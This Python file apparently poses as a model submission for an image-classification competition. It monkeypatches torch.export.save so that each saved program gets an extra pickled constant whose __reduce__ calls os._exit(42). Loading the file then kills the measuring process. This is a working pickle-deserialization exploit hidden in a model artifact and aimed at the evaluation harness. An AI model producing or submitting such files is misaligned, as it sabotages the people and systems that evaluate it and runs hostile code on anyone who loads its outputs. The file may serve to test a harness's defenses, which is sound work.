"""Rewrites its exported program after fercomp writes it: it plants an "opaque object" constant, which
torch.export.load reads with plain pickle.loads, whose loading runs os._exit in the measurer."""
import json
import os
import pickle
import zipfile

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


class Exploit:
    def __reduce__(self):
        return (os._exit, (42,))


_save = torch.export.save


def save(program, path, *args, **kwargs):
    _save(program, path, *args, **kwargs)
    with zipfile.ZipFile(path) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    for name in list(entries):
        if name.endswith("model_constants_config.json"):
            config = json.loads(entries[name])
            config["config"]["planted"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                           "tensor_meta": None}
            entries[name] = json.dumps(config).encode()
            entries[f"{name.rsplit('/', 1)[0]}/opaque_obj_0"] = pickle.dumps(Exploit())
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


torch.export.save = save
